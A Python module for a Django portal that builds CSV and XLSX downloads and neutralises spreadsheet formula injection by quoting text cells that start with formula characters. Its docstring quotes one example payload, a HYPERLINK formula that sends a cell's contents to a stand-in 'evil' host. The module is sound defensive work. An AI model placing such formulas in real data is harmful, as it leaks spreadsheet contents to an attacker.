"""Cells for files that people open in a spreadsheet program (CSV exports, and XLSX should
the admin export them): the one guard against formula injection.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
leading tab or carriage return can hide such a character from the eye), so a company named
``=HYPERLINK("http://evil/?"&A1, "klik")`` would run when an official opens the register
export. OWASP's advice (CSV Injection): prefix such a text cell with a single quote, which
the spreadsheet shows as plain text. Only text is touched: a genuine number (``Decimal``,
``int``, a date) stays a number, so a negative value is still a value.

In the base layer of ``tkdnportal`` so the registry and the applications can both use it.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

#: The first characters that make a spreadsheet evaluate a text cell (OWASP, CSV Injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """The value as a cell: text beginning with a formula character gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    """A whole row through :func:`spreadsheet_safe`."""
    return [spreadsheet_safe(value) for value in values]


#: The download formats every table offers (a query parameter ``format`` picks one).
TABLE_FORMATS = ("csv", "xlsx")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def table_bytes(
    fmt: str, header: Sequence[str], rows: Iterable[Sequence[Any]], *, title: str = ""
) -> bytes:
    """One table as a CSV (UTF-8 with BOM, for spreadsheet programs) or XLSX file.

    Every cell goes through :func:`spreadsheet_safe`; numbers (``Decimal``, ``int``) and dates stay
    numbers and dates in the XLSX, so a buyer can sort and sum them.
    """
    if fmt == "csv":
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(spreadsheet_row(header))
        for row in rows:
            writer.writerow(spreadsheet_row(row))
        return ("\ufeff" + buffer.getvalue()).encode("utf-8")
    if fmt == "xlsx":
        from openpyxl import Workbook
        from openpyxl.styles import Font

        workbook = Workbook(write_only=False)
        sheet = workbook.active
        sheet.title = (title or "Data")[:31]
        sheet.append(spreadsheet_row(header))
        for cell in sheet[1]:
            cell.font = Font(bold=True)
        for row in rows:
            sheet.append([_xlsx_cell(value) for value in spreadsheet_row(row)])
        sheet.freeze_panes = "A2"
        buffer = io.BytesIO()
        workbook.save(buffer)
        return buffer.getvalue()
    raise ValueError(f"unknown table format {fmt!r}; expected one of {TABLE_FORMATS}")


def table_response(fmt: str, filename: str, header, rows, *, title: str = ""):
    """An attachment response with :func:`table_bytes`; ``filename`` without extension."""
    from django.http import HttpResponse

    content_type = "text/csv; charset=utf-8" if fmt == "csv" else XLSX_CONTENT_TYPE
    response = HttpResponse(table_bytes(fmt, header, rows, title=title), content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    return response


def _xlsx_cell(value: Any) -> Any:
    if isinstance(value, Decimal | int | float | datetime.date) or value is None:
        if isinstance(value, datetime.datetime) and value.tzinfo is not None:
            return value.replace(tzinfo=None)
        return value
    return str(value)
